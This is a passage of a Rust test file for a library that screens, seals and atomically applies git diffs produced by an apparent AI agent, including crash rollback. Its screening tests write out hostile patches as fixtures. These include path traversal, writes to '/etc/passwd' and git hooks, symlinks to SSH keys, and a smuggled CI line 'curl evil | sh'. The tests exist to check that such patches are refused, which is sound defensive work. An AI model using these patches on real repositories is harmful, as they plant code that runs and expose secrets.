//! Diffs against real git: extraction in a workspace, screening and atomic apply.

use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;
use std::process::{Command, Stdio};

use ash_pack::{
    ApplyOptions, Conflict, Contents, DiffError, DiffSummary, Expect, FileChange, Git, GitOutput,
    JobId, MAX_DIFF_BYTES, MAX_MANIFEST_BYTES, Recovered, apply, baseline, extract, open_diff,
    open_result, screen, seal_diff, seal_result,
};
use pretty_assertions::assert_eq;

use crate::package::{alice, bob, to};
use crate::{git, write_tree};

/// Git run directly (the binary runs it through ash-sandbox), with a clean environment.
pub(crate) struct StdGit;

impl Git for StdGit {
    fn run(
        &self,
        cwd: &Path,
        args: &[String],
        env: &[(String, String)],
        stdin: &[u8],
    ) -> Result<GitOutput, String> {
        let mut child = Command::new("git")
            .args(args)
            .current_dir(cwd)
            .env_clear()
            .env("PATH", "/usr/local/bin:/usr/bin:/bin")
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .envs(env.iter().map(|(k, v)| (k, v)))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .map_err(|e| e.to_string())?;
        use std::io::Write as _;
        child.stdin.take().unwrap().write_all(stdin).map_err(|e| e.to_string())?;
        let out = child.wait_with_output().map_err(|e| e.to_string())?;
        Ok(GitOutput { success: out.status.success(), stdout: out.stdout, stderr: out.stderr })
    }

    /// Claimed: the tests' workspaces are their own fixtures, not a peer's.
    fn isolated(&self) -> bool {
        true
    }
}

/// Where the tests' applies keep their journals (one per tree, inside).
fn journals() -> &'static Path {
    static ROOT: std::sync::LazyLock<tempfile::TempDir> =
        std::sync::LazyLock::new(|| tempfile::tempdir().unwrap());
    ROOT.path()
}

fn copy_tree(from: &Path, to: &Path) {
    let status =
        Command::new("cp").arg("-a").arg(format!("{}/.", from.display())).arg(to).status().unwrap();
    assert!(status.success());
}

/// Files, links and modes of a tree (without `.git`), for whole-tree comparisons.
fn listing(root: &Path) -> Vec<(String, u32, Vec<u8>)> {
    let mut out = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for item in std::fs::read_dir(&dir).unwrap() {
            let item = item.unwrap();
            let path = item.path();
            let rel = path.strip_prefix(root).unwrap().display().to_string();
            if rel == ".git" {
                continue;
            }
            let meta = std::fs::symlink_metadata(&path).unwrap();
            if meta.is_dir() {
                stack.push(path);
            } else if meta.file_type().is_symlink() {
                out.push((
                    rel,
                    0o120000,
                    std::fs::read_link(&path).unwrap().display().to_string().into_bytes(),
                ));
            } else {
                out.push((rel, meta.permissions().mode() & 0o111, std::fs::read(&path).unwrap()));
            }
        }
    }
    out.sort();
    out
}

const BASE: &[(&str, &str)] = &[
    ("src/lib.rs", "pub fn one() -> u32 {\n    1\n}\n"),
    ("README.md", "# demo\n"),
    ("old name.txt", "this file will be renamed\nwith enough lines\nto be detected\nas a rename\n"),
    ("gone.txt", "deleted by the agent\n"),
    ("run.sh", "#!/bin/sh\necho hi\n"),
    (".gitignore", "target/\n"),
];

#[test]
fn extract_captures_everything_and_apply_reproduces_it() {
    let dir = tempfile::tempdir().unwrap();
    let (requester, workspace, git_dir) =
        (dir.path().join("req"), dir.path().join("ws"), dir.path().join("base.git"));
    std::fs::create_dir_all(&requester).unwrap();
    write_tree(&requester, BASE);
    std::fs::create_dir_all(&workspace).unwrap();
    copy_tree(&requester, &workspace);
    let base = baseline(&StdGit, &workspace, &git_dir).unwrap();

    // The agent: edits, a binary file, a deletion, a rename, a mode change, a symlink, an
    // ignored build output, and commits of its own in its own repository.
    git(&workspace, &["init", "-q"]);
    std::fs::write(
        workspace.join("src/lib.rs"),
        "pub fn one() -> u32 {\n    2\n}\n\npub fn two() {}\n",
    )
    .unwrap();
    std::fs::write(workspace.join("logo.png"), [0x89, b'P', b'N', b'G', 0, 1, 2, 255, 0, 7])
        .unwrap();
    std::fs::remove_file(workspace.join("gone.txt")).unwrap();
    std::fs::rename(workspace.join("old name.txt"), workspace.join("new name.txt")).unwrap();
    std::fs::set_permissions(workspace.join("run.sh"), std::fs::Permissions::from_mode(0o755))
        .unwrap();
    std::os::unix::fs::symlink("src/lib.rs", workspace.join("lib-link")).unwrap();
    write_tree(
        &workspace,
        &[("target/debug/out", "build output"), ("docs/guide.md", "committed by the agent\n")],
    );
    git(&workspace, &["add", "-A"]);
    git(&workspace, &["commit", "-qm", "agent work"]);

    let diff = extract(&StdGit, &workspace, &base, MAX_DIFF_BYTES).unwrap();
    let change = |path: &str, from: Option<&str>, added, removed| FileChange {
        path: path.to_owned(),
        renamed_from: from.map(str::to_owned),
        added,
        removed,
    };
    assert_eq!(
        diff.summary,
        DiffSummary {
            files: vec![
                change("docs/guide.md", None, Some(1), Some(0)),
                change("gone.txt", None, Some(0), Some(1)),
                change("lib-link", None, Some(1), Some(0)),
                change("logo.png", None, None, None),
                change("new name.txt", Some("old name.txt"), Some(0), Some(0)),
                change("run.sh", None, Some(0), Some(0)),
                change("src/lib.rs", None, Some(3), Some(1)),
            ],
            insertions: 5,
            deletions: 2,
        }
    );
    // Sealed for the requester and back.
    let sealed = seal_diff(&diff.patch, &bob(), &to(&alice()), JobId([3; 16])).unwrap();
    let (header, patch) = open_diff(&sealed[..], &alice(), Expect::default(), 64 << 20).unwrap();
    assert_eq!((header.sender, patch.as_slice()), (bob().node_id(), diff.patch.as_slice()));

    let check = apply(
        &StdGit,
        &requester,
        &patch,
        ApplyOptions { check_only: true, three_way: false },
        journals(),
    )
    .unwrap();
    assert!(!check.changed);
    assert_eq!(listing(&requester).len(), BASE.len());
    apply(&StdGit, &requester, &patch, ApplyOptions::default(), journals()).unwrap();
    let mut expected = listing(&workspace);
    expected.retain(|(p, ..)| !p.starts_with("target/"));
    assert_eq!(listing(&requester), expected);
}

#[test]
fn conflicts_are_reported_per_file_and_nothing_changes() {
    let dir = tempfile::tempdir().unwrap();
    let (requester, workspace, git_dir) =
        (dir.path().join("req"), dir.path().join("ws"), dir.path().join("b.git"));
    std::fs::create_dir_all(&requester).unwrap();
    std::fs::create_dir_all(&workspace).unwrap();
    write_tree(&requester, BASE);
    copy_tree(&requester, &workspace);
    let base = baseline(&StdGit, &workspace, &git_dir).unwrap();
    std::fs::write(workspace.join("README.md"), "# demo\nmore\n").unwrap();
    std::fs::write(workspace.join("src/lib.rs"), "pub fn one() -> u32 {\n    3\n}\n").unwrap();
    let diff = extract(&StdGit, &workspace, &base, MAX_DIFF_BYTES).unwrap();
    // Meanwhile the user changed lib.rs.
    std::fs::write(requester.join("src/lib.rs"), "pub fn uno() -> u32 {\n    1\n}\n").unwrap();
    let before = listing(&requester);
    let err =
        apply(&StdGit, &requester, &diff.patch, ApplyOptions::default(), journals()).unwrap_err();
    let DiffError::Conflicts(conflicts) = &err else { panic!("{err}") };
    assert_eq!(
        conflicts,
        &vec![Conflict {
            path: "src/lib.rs".to_owned(),
            messages: vec![
                "patch failed: src/lib.rs:1".to_owned(),
                "src/lib.rs: patch does not apply".to_owned()
            ],
        }]
    );
    assert_eq!(
        err.to_string(),
        "the patch does not apply; nothing was changed (1 file(s) conflict)"
    );
    assert_eq!(listing(&requester), before, "README.md must not be half-applied");

    // --3way needs a repository; in one, git merges where it can.
    let err = apply(
        &StdGit,
        &requester,
        &diff.patch,
        ApplyOptions { check_only: false, three_way: true },
        journals(),
    )
    .unwrap_err();
    assert_eq!(
        err.to_string(),
        "--3way needs the tree to be the root of a git repository (with a `.git` directory)"
    );
}

fn hunk_file(path: &str) -> String {
    format!(
        "diff --git a/{path} b/{path}\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+owned\n"
    )
}

#[test]
fn hostile_patches_are_refused_before_any_write() {
    let link = |target: &str| {
        format!(
            "diff --git a/l b/l\nnew file mode 120000\nindex 0000000..1111111\n--- /dev/null\n+++ b/l\n@@ -0,0 +1 @@\n+{target}\n\\ No newline at end of file\n"
        )
    };
    let cases: Vec<(String, String)> = vec![
        (hunk_file("../outside.txt"), "patch refused: ../outside.txt: `.` or `..` component".to_owned()),
        (hunk_file("a/../../outside.txt"), "patch refused: a/../../outside.txt: `.` or `..` component".to_owned()),
        (
            "diff --git a/x b/x\n--- a/x\n+++ b//etc/passwd\n@@ -1 +1 @@\n-a\n+b\n".to_owned(),
            "patch refused: /etc/passwd: absolute path".to_owned(),
        ),
        (hunk_file(".git/hooks/post-checkout"), "patch refused: .git/hooks/post-checkout: `.git` component".to_owned()),
        (
            "diff --git \"a/x\\033[2J\" \"b/x\\033[2J\"\nnew file mode 100644\n--- /dev/null\n+++ \"b/x\\033[2J\"\n@@ -0,0 +1 @@\n+a\n".to_owned(),
            "patch refused: x\u{1b}[2J: control character in name".to_owned(),
        ),
        (link("/etc/passwd"), "patch refused: l: symlink to `/etc/passwd` leaves the tree".to_owned()),
        (link("../../.ssh/id_rsa"), "patch refused: l: symlink to `../../.ssh/id_rsa` leaves the tree".to_owned()),
        (
            "diff --git a/img.png b/img.png\nindex 1111111..2222222 100644\nBinary files a/img.png and b/img.png differ\n".to_owned(),
            "patch refused: img.png: binary change without data (diff made without --binary)".to_owned(),
        ),
        (
            "diff --git a/sub b/sub\nnew file mode 160000\nindex 0000000..1111111\n--- /dev/null\n+++ b/sub\n@@ -0,0 +1 @@\n+Subproject commit 1111111111111111111111111111111111111111\n".to_owned(),
            "patch refused: sub: submodule changes are not applied".to_owned(),
        ),
        ("--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n".to_owned(), "patch refused: line 1: not a git diff (no `diff --git` header)".to_owned()),
        ("just some text\n".to_owned(), "patch refused: line 1: not a git diff (no `diff --git` header)".to_owned()),
    ];
    let dir = tempfile::tempdir().unwrap();
    let tree = dir.path().join("tree");
    std::fs::create_dir(&tree).unwrap();
    write_tree(&tree, &[("x", "a\n")]);
    for (patch, want) in cases {
        let err = apply(&StdGit, &tree, patch.as_bytes(), ApplyOptions::default(), journals())
            .unwrap_err();
        assert_eq!(err.to_string(), want, "{patch}");
        assert_eq!(listing(&tree), vec![("x".to_owned(), 0, b"a\n".to_vec())]);
        assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 1, "wrote beside the tree");
    }
    // A safe link and a nested path pass the screen.
    let files = screen(format!("{}{}", link("x"), hunk_file("deep/new.txt")).as_bytes()).unwrap();
    assert_eq!(files.len(), 2);
    assert_eq!(files[0].link_target.as_deref(), Some("x"));
}

#[test]
fn sealed_results_carry_their_manifest_under_the_same_seal() {
    let manifest = br#"{"models":["claude-sonnet-4-5"]}"#;
    let patch = b"diff --git a/x b/x\n";
    let sealed = seal_result(manifest, patch, &bob(), &to(&alice()), JobId([1; 16])).unwrap();
    let opened = open_result(&sealed[..], &alice(), Expect::default(), 1024).unwrap();
    assert_eq!((opened.manifest.as_slice(), opened.patch.as_slice()), (&manifest[..], &patch[..]));
    assert_eq!(opened.header.contents, Contents::Result);
    // A result is not a diff, nor the other way round.
    let err = open_diff(&sealed[..], &alice(), Expect::default(), 1024).unwrap_err();
    assert!(err.to_string().contains("result"), "{err}");
    let diff = seal_diff(patch, &bob(), &to(&alice()), JobId([1; 16])).unwrap();
    assert!(open_result(&diff[..], &alice(), Expect::default(), 1024).is_err());
    // The patch limit holds; a manifest over 64 KiB is refused on both sides.
    let err = open_result(&sealed[..], &alice(), Expect::default(), 4).unwrap_err();
    assert_eq!(err.to_string(), "the diff is larger than the limit of 4 bytes");
    let big = vec![b'x'; MAX_MANIFEST_BYTES + 1];
    let err = seal_result(&big, patch, &bob(), &to(&alice()), JobId([1; 16])).unwrap_err();
    assert_eq!(err.to_string(), "the result's manifest is over 64 KiB");
    // Changing one sealed byte is caught by the seal, manifest or not.
    let mut flipped = sealed;
    flipped[60] ^= 1;
    assert!(open_result(&flipped[..], &alice(), Expect::default(), 1024).is_err());
}

#[test]
fn sealed_diffs_are_bound_to_recipient_and_size() {
    let sealed = seal_diff(b"diff --git a/x b/x\n", &bob(), &to(&alice()), JobId([1; 16])).unwrap();
    let err = open_diff(&sealed[..], &bob(), Expect::default(), 1024).unwrap_err();
    assert_eq!(
        err.to_string(),
        format!("sealed to {}, not to this identity ({})", alice().node_id(), bob().node_id())
    );
    let err = open_diff(&sealed[..], &alice(), Expect::default(), 4).unwrap_err();
    assert_eq!(err.to_string(), "the diff is larger than the limit of 4 bytes");
    let mut flipped = sealed;
    let last = flipped.len() - 1;
    flipped[last] ^= 1;
    let err = open_diff(&flipped[..], &alice(), Expect::default(), 1024).unwrap_err();
    assert_eq!(
        err.to_string(),
        "chunk 0 failed authentication: the file was changed, cut or reordered"
    );
}

#[test]
fn a_patch_cannot_retarget_a_link_smuggle_one_in_binary_or_hide_a_section() {
    let dir = tempfile::tempdir().unwrap();
    let tree = dir.path().join("tree");
    std::fs::create_dir(&tree).unwrap();
    write_tree(&tree, &[("a.txt", "a\n"), ("ci.yml", "ci: ok\n"), ("x", "x\n")]);
    std::os::unix::fs::symlink("x", tree.join("link")).unwrap();
    git(&tree, &["init", "-q"]);
    git(&tree, &["add", "-A"]);
    git(&tree, &["commit", "-qm", "base"]);
    // A1: git writes an existing link's mode on the `index` line only.
    std::fs::remove_file(tree.join("link")).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", tree.join("link")).unwrap();
    let retarget = git(&tree, &["diff", "--binary"]);
    assert!(String::from_utf8_lossy(&retarget).contains(" 120000\n"), "{retarget:?}");
    git(&tree, &["checkout", "-q", "--", "link"]);
    let before = listing(&tree);
    let cases: Vec<(Vec<u8>, &str)> = vec![
        (retarget, "patch refused: link: symlink to `/etc/passwd` leaves the tree"),
        // A2: a link created by a binary literal.
        (
            b"diff --git a/evil b/evil\nnew file mode 120000\nindex 0000000..1111111\nGIT binary patch\nliteral 10\nRcmZ?wbaLaGZ~z4W0C|>H\n\nliteral 0\nHcmV?d00001\n\n".to_vec(),
            "patch refused: evil: a symlink in a binary patch (its target cannot be checked)",
        ),
        // A3: after a hunk's counted lines, git reads a new patch.
        (
            b"diff --git a/a.txt b/a.txt\n--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-a\n+b\n--- a/ci.yml\n+++ b/ci.yml\n@@ -1 +1 @@\n-ci: ok\n+ci: curl evil | sh\n".to_vec(),
            "patch refused: line 7: a second patch inside one file's section",
        ),
        // A hunk that holds more than its header counts.
        (
            b"diff --git a/a.txt b/a.txt\n--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-a\n+b\n+c\n".to_vec(),
            "patch refused: line 7: a hunk holds more lines than its header counts",
        ),
        // CRLF line ends: the hunk header is not git's.
        (
            b"diff --git a/a.txt b/a.txt\r\n--- a/a.txt\r\n+++ b/a.txt\r\n@@ -1 +1 @@\r\n-a\r\n+b\r\n".to_vec(),
            "patch refused: line 4: cannot read a hunk header",
        ),
    ];
    for (patch, want) in cases {
        let err = apply(&StdGit, &tree, &patch, ApplyOptions::default(), journals()).unwrap_err();
        assert_eq!(err.to_string(), want, "{}", String::from_utf8_lossy(&patch));
        assert_eq!(listing(&tree), before);
    }
    // A link moved to a shallower directory, where its relative target leaves the tree.
    std::fs::create_dir(tree.join("sub")).unwrap();
    std::os::unix::fs::symlink("../x", tree.join("sub/up")).unwrap();
    git(&tree, &["add", "-A"]);
    git(&tree, &["commit", "-qm", "a link in a subdirectory"]);
    git(&tree, &["mv", "sub/up", "up"]);
    let moved = git(&tree, &["diff", "--cached", "--binary", "-M"]);
    git(&tree, &["reset", "-q", "--hard"]);
    let before = listing(&tree);
    let err = apply(&StdGit, &tree, &moved, ApplyOptions::default(), journals()).unwrap_err();
    assert_eq!(err.to_string(), "patch refused: up: symlink to `../x` moved here leaves the tree");
    assert_eq!(listing(&tree), before);
    // Renaming a link and changing a file's mode still pass, as git reads them.
    std::fs::rename(tree.join("link"), tree.join("link2")).unwrap();
    std::fs::set_permissions(tree.join("a.txt"), std::fs::Permissions::from_mode(0o755)).unwrap();
    git(&tree, &["add", "-A"]);
    let patch = git(&tree, &["diff", "--cached", "--binary", "-M"]);
    git(&tree, &["reset", "-q", "--hard"]);
    let applied = apply(&StdGit, &tree, &patch, ApplyOptions::default(), journals()).unwrap();
    assert_eq!(applied.files.len(), 2, "{applied:?}");
    assert_eq!(std::fs::read_link(tree.join("link2")).unwrap(), Path::new("x"));
}

#[test]
fn targets_that_run_code_are_marked_with_the_reason() {
    let exec = "diff --git a/tools/run b/tools/run\nnew file mode 100755\nindex 0000000..1111111\n--- /dev/null\n+++ b/tools/run\n@@ -0,0 +1 @@\n+owned\n";
    let paths = [
        "src/lib.rs",
        ".github/workflows/ci.yml",
        ".gitlab-ci.yml",
        "crates/x/build.rs",
        "web/package.json",
        "pyproject.toml",
        "Makefile",
        ".envrc",
        ".vscode/tasks.json",
        ".gitattributes",
        "deleted.txt",
    ];
    let mut patch: String = paths.iter().map(|p| hunk_file(p)).collect();
    patch.push_str(exec);
    patch.push_str("diff --git a/.github/workflows/old.yml b/.github/workflows/old.yml\ndeleted file mode 100644\nindex 1111111..0000000\n--- a/.github/workflows/old.yml\n+++ /dev/null\n@@ -1 +0,0 @@\n-old\n");
    let marks: Vec<(String, Option<&str>)> = screen(patch.as_bytes())
        .unwrap()
        .into_iter()
        .map(|f| (f.new_path.or(f.old_path).unwrap(), f.sensitive))
        .collect();
    assert_eq!(
        marks,
        vec![
            ("src/lib.rs".to_owned(), None),
            (".github/workflows/ci.yml".to_owned(), Some("CI workflow: runs on the forge")),
            (".gitlab-ci.yml".to_owned(), Some("CI configuration: runs on the CI service")),
            ("crates/x/build.rs".to_owned(), Some("build script: cargo runs it on build")),
            (
                "web/package.json".to_owned(),
                Some("package manifest: its scripts run on install and build")
            ),
            (
                "pyproject.toml".to_owned(),
                Some("Python package configuration: runs or configures code on install")
            ),
            ("Makefile".to_owned(), Some("build rules: run by the build")),
            (".envrc".to_owned(), Some("direnv: runs on entering the directory")),
            (".vscode/tasks.json".to_owned(), Some("editor configuration: tasks it runs")),
            (
                ".gitattributes".to_owned(),
                Some("git attributes: filters and diff drivers git runs")
            ),
            ("deleted.txt".to_owned(), None),
            ("tools/run".to_owned(), Some("becomes executable")),
            // Deleting is not writing: nothing to run.
            (".github/workflows/old.yml".to_owned(), None),
        ]
    );
}

/// A tree's entries: path, mode, contents (a link's target).
type Shape = Vec<(String, u32, Vec<u8>)>;

/// Every file, link and directory of a tree (without `.git`) with its full permission bits.
fn shape(root: &Path) -> Shape {
    let mut out = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for item in std::fs::read_dir(&dir).unwrap() {
            let path = item.unwrap().path();
            let rel = path.strip_prefix(root).unwrap().display().to_string();
            if rel == ".git" {
                continue;
            }
            let meta = std::fs::symlink_metadata(&path).unwrap();
            let mode = meta.permissions().mode();
            if meta.is_dir() {
                out.push((format!("{rel}/"), mode, Vec::new()));
                stack.push(path);
            } else if meta.file_type().is_symlink() {
                out.push((
                    rel,
                    0o120000,
                    std::fs::read_link(&path).unwrap().into_os_string().into_encoded_bytes(),
                ));
            } else {
                out.push((rel, mode, std::fs::read(&path).unwrap()));
            }
        }
    }
    out.sort();
    out
}

/// A repository and a patch that changes every kind of thing a rollback has to undo: an edit,
/// a new file in new directories, a deletion that empties a directory, a file that becomes a
/// directory and a directory that becomes a file, a retargeted link, an exec bit, a binary.
/// Returns (tree, patch, shape before, shape after); the tree is as before.
fn rollback_case(dir: &Path) -> (std::path::PathBuf, Vec<u8>, Shape, Shape) {
    let tree = dir.join("tree");
    std::fs::create_dir_all(&tree).unwrap();
    write_tree(
        &tree,
        &[
            ("a.txt", "one\ntwo\n"),
            ("becomes-dir", "a file now\n"),
            ("was-dir/inner.txt", "inside\n"),
            ("lonely/only.txt", "the only file here\n"),
            ("run.sh", "#!/bin/sh\n"),
            ("target.txt", "t\n"),
            ("z.bin", "\0\u{1}binary"),
        ],
    );
    std::os::unix::fs::symlink("target.txt", tree.join("link")).unwrap();
    std::fs::set_permissions(tree.join("lonely"), std::fs::Permissions::from_mode(0o750)).unwrap();
    git(&tree, &["init", "-q"]);
    git(&tree, &["add", "-A"]);
    git(&tree, &["commit", "-qm", "base"]);
    let before = shape(&tree);
    std::fs::write(tree.join("a.txt"), "one\nTWO\n").unwrap();
    std::fs::remove_file(tree.join("becomes-dir")).unwrap();
    write_tree(
        &tree,
        &[("becomes-dir/child.txt", "now a directory\n"), ("new/deep/file.txt", "new\n")],
    );
    std::fs::remove_dir_all(tree.join("was-dir")).unwrap();
    std::fs::write(tree.join("was-dir"), "now a file\n").unwrap();
    std::fs::remove_dir_all(tree.join("lonely")).unwrap();
    std::fs::set_permissions(tree.join("run.sh"), std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::remove_file(tree.join("link")).unwrap();
    std::os::unix::fs::symlink("a.txt", tree.join("link")).unwrap();
    std::fs::write(tree.join("z.bin"), b"\0\x02changed binary").unwrap();
    git(&tree, &["add", "-A"]);
    let patch = git(&tree, &["diff", "--cached", "--binary"]);
    let after = shape(&tree);
    git(&tree, &["reset", "-q", "--hard"]);
    git(&tree, &["clean", "-qfd"]);
    std::fs::set_permissions(tree.join("lonely"), std::fs::Permissions::from_mode(0o750)).unwrap();
    assert_eq!(shape(&tree), before);
    (tree, patch, before, after)
}

/// Real git that, when asked to write (not to check), writes only the first file of the patch
/// (or all of it) and then dies the way a killed process does, or reports a write error.
struct Interrupted {
    whole: bool,
    then: Then,
}

#[derive(Clone, Copy)]
enum Then {
    Abort,
    Fail,
}

impl Git for Interrupted {
    fn run(
        &self,
        cwd: &Path,
        args: &[String],
        env: &[(String, String)],
        stdin: &[u8],
    ) -> Result<GitOutput, String> {
        if args.iter().any(|a| a == "--check" || a == "--numstat") {
            return StdGit.run(cwd, args, env, stdin);
        }
        let mut args = args.to_vec();
        if !self.whole {
            args.push("--include=a.txt".to_owned());
        }
        let out = StdGit.run(cwd, &args, env, stdin)?;
        assert!(out.success, "{}", String::from_utf8_lossy(&out.stderr));
        match self.then {
            Then::Abort => std::process::abort(),
            Then::Fail => Ok(GitOutput {
                success: false,
                stdout: Vec::new(),
                stderr:
                    b"error: unable to write file 'z.bin' mode 100644: No space left on device\n"
                        .to_vec(),
            }),
        }
    }

    fn isolated(&self) -> bool {
        true
    }
}

#[test]
fn a_failed_write_puts_every_kind_of_change_back() {
    use std::os::unix::fs::MetadataExt as _;
    // Pre-images are hard links when the journal shares the tree's filesystem, copies when not
    // (`/dev/shm` is another filesystem than the temporary directory, where there is one).
    let elsewhere = tempfile::tempdir_in("/dev/shm").ok();
    for whole in [false, true] {
        for other_fs in [false, true] {
            let dir = tempfile::tempdir().unwrap();
            let journal = match (&elsewhere, other_fs) {
                (_, false) => dir.path().join("journal"),
                (Some(shm), true) => shm.path().join(format!("journal-{whole}")),
                (None, true) => {
                    eprintln!("no /dev/shm: copies are not tried");
                    continue;
                }
            };
            std::fs::create_dir_all(&journal).unwrap();
            let device = |p: &Path| std::fs::metadata(p).unwrap().dev();
            assert_eq!(device(&journal) != device(dir.path()), other_fs, "{journal:?}");
            let (tree, patch, before, after) = rollback_case(dir.path());
            let git = Interrupted { whole, then: Then::Fail };
            let err = apply(&git, &tree, &patch, ApplyOptions::default(), &journal).unwrap_err();
            assert_eq!(
                err.to_string(),
                "git could not write the patch, so the tree was put back as it was: error: unable \
                 to write file 'z.bin' mode 100644: No space left on device",
                "whole: {whole}, other fs: {other_fs}"
            );
            assert_eq!(shape(&tree), before, "whole: {whole}, other fs: {other_fs}");
            // Nothing is left to recover or kept, and the patch still applies.
            assert_eq!(ash_pack::recover(&journal, &tree).unwrap(), Recovered::default());
            let kept: Vec<_> = std::fs::read_dir(
                std::fs::read_dir(&journal).unwrap().next().unwrap().unwrap().path(),
            )
            .unwrap()
            .map(|e| e.unwrap().file_name().into_string().unwrap())
            .collect::<std::collections::BTreeSet<_>>()
            .into_iter()
            .collect();
            assert_eq!(kept, ["lock", "tree"]);
            let applied = apply(&StdGit, &tree, &patch, ApplyOptions::default(), &journal).unwrap();
            assert!(applied.changed);
            assert_eq!(shape(&tree), after, "whole: {whole}, other fs: {other_fs}");
        }
    }
}

/// The child half of the crash test: set by the parent, it applies and is killed part-way.
const CRASH_CHILD: &str = "ASH_PACK_TEST_CRASH_CHILD";

#[test]
fn a_crash_while_git_writes_is_rolled_back_by_the_next_apply() {
    if let Ok(spec) = std::env::var(CRASH_CHILD) {
        let mut parts = spec.splitn(3, '\n');
        let (whole, tree, journal) =
            (parts.next().unwrap() == "whole", parts.next().unwrap(), parts.next().unwrap());
        let patch = std::fs::read(Path::new(journal).with_extension("patch")).unwrap();
        let git = Interrupted { whole, then: Then::Abort };
        let _ = apply(&git, Path::new(tree), &patch, ApplyOptions::default(), Path::new(journal));
        unreachable!("git was to kill the process");
    }
    for whole in [false, true] {
        let dir = tempfile::tempdir().unwrap();
        let journal = dir.path().join("journal");
        let (tree, patch, before, after) = rollback_case(dir.path());
        std::fs::write(journal.with_extension("patch"), &patch).unwrap();
        let child = Command::new(std::env::current_exe().unwrap())
            .args(["--exact", "diff::a_crash_while_git_writes_is_rolled_back_by_the_next_apply"])
            .arg("--nocapture")
            .env(
                CRASH_CHILD,
                format!(
                    "{}\n{}\n{}",
                    if whole { "whole" } else { "part" },
                    tree.display(),
                    journal.display()
                ),
            )
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .unwrap();
        use std::os::unix::process::ExitStatusExt as _;
        assert_eq!(child.signal(), Some(6), "the child dies by SIGABRT: {child:?}");
        let half = shape(&tree);
        assert_ne!(half, before, "the crash left the tree changed");
        // A check changes nothing, not even to roll back.
        let check = ApplyOptions { check_only: true, three_way: false };
        let err = apply(&StdGit, &tree, &patch, check, &journal).unwrap_err();
        let canonical = std::fs::canonicalize(&tree).unwrap();
        assert_eq!(
            err.to_string(),
            format!(
                "an interrupted apply into {} is not rolled back yet; apply without --check rolls \
                 it back first",
                canonical.display()
            )
        );
        assert_eq!(shape(&tree), half);
        // Meanwhile the person edited a file the apply had written, and added one of their own.
        std::fs::write(tree.join("a.txt"), "mine\n").unwrap();
        std::fs::write(tree.join("notes.txt"), "my notes\n").unwrap();
        // The next apply puts the tree back first; asking first tells what it put back and
        // what it moved aside.
        let done = ash_pack::recover(&journal, &tree).unwrap();
        let mut expected_shape = before.clone();
        expected_shape.push(("notes.txt".to_owned(), 0o100644, b"my notes\n".to_vec()));
        expected_shape.sort();
        assert_eq!(shape(&tree), expected_shape, "whole: {whole}");
        let (restored, displaced): (&[&str], &[&str]) = if whole {
            (
                &[
                    "a.txt",
                    "becomes-dir",
                    "link",
                    "lonely/only.txt",
                    "run.sh",
                    "was-dir/inner.txt",
                    "z.bin",
                ],
                &[
                    "new/deep/file.txt",
                    "becomes-dir/child.txt",
                    "was-dir",
                    "a.txt",
                    "link",
                    "run.sh",
                    "z.bin",
                ],
            )
        } else {
            (&["a.txt"], &["a.txt"])
        };
        assert_eq!(
            (
                done.restored.iter().map(String::as_str).collect::<Vec<_>>(),
                done.displaced.iter().map(String::as_str).collect::<Vec<_>>()
            ),
            (restored.to_vec(), displaced.to_vec()),
            "whole: {whole}"
        );
        // Nothing is lost: the edit is kept aside.
        let kept = done.kept_in.unwrap();
        assert_eq!(std::fs::read_to_string(kept.join("a.txt")).unwrap(), "mine\n");
        // Recovering twice is nothing; then the patch applies whole.
        assert_eq!(ash_pack::recover(&journal, &tree).unwrap(), Recovered::default());
        std::fs::remove_file(tree.join("notes.txt")).unwrap();
        apply(&StdGit, &tree, &patch, ApplyOptions::default(), &journal).unwrap();
        assert_eq!(shape(&tree), after, "whole: {whole}");
    }
}

/// Git that, while the first apply writes, tries a second apply into the same tree.
struct Reentrant<'a> {
    patch: &'a [u8],
    journal: &'a Path,
    second: std::cell::RefCell<Option<String>>,
}

impl Git for Reentrant<'_> {
    fn run(
        &self,
        cwd: &Path,
        args: &[String],
        env: &[(String, String)],
        stdin: &[u8],
    ) -> Result<GitOutput, String> {
        if !args.iter().any(|a| a == "--check" || a == "--numstat") {
            let err =
                apply(&StdGit, cwd, self.patch, ApplyOptions::default(), self.journal).unwrap_err();
            *self.second.borrow_mut() = Some(err.to_string());
        }
        StdGit.run(cwd, args, env, stdin)
    }

    fn isolated(&self) -> bool {
        true
    }
}

#[test]
fn one_apply_at_a_time_writes_to_a_tree_and_three_way_keeps_its_conflicts() {
    let dir = tempfile::tempdir().unwrap();
    let journal = dir.path().join("journal");
    let (tree, patch, _, after) = rollback_case(dir.path());
    let reentrant =
        Reentrant { patch: &patch, journal: &journal, second: std::cell::RefCell::new(None) };
    apply(&reentrant, &tree, &patch, ApplyOptions::default(), &journal).unwrap();
    assert_eq!(shape(&tree), after);
    let canonical = std::fs::canonicalize(&tree).unwrap();
    assert_eq!(
        reentrant.second.into_inner(),
        Some(format!("another apply is writing to {}; wait for it to finish", canonical.display()))
    );

    // A three-way apply that merges with conflicts keeps them, markers and index, and says so.
    git(&tree, &["add", "-A"]);
    git(&tree, &["commit", "-qm", "applied"]);
    std::fs::write(tree.join("a.txt"), "one\ntwo-mine\n").unwrap();
    std::fs::write(tree.join("target.txt"), "t2\n").unwrap();
    git(&tree, &["add", "-A"]);
    let theirs = git(&tree, &["diff", "--cached", "--binary"]);
    git(&tree, &["reset", "-q", "--hard"]);
    std::fs::write(tree.join("a.txt"), "one\nTWO-ours\n").unwrap();
    git(&tree, &["commit", "-qam", "ours"]);
    // The journal's hard links change the files' ctime; a second later, that shows in whole
    // seconds too (it made this apply fail now and then, as git held the index's stat data to
    // the files).
    std::thread::sleep(std::time::Duration::from_millis(1100));
    let three_way = ApplyOptions { check_only: false, three_way: true };
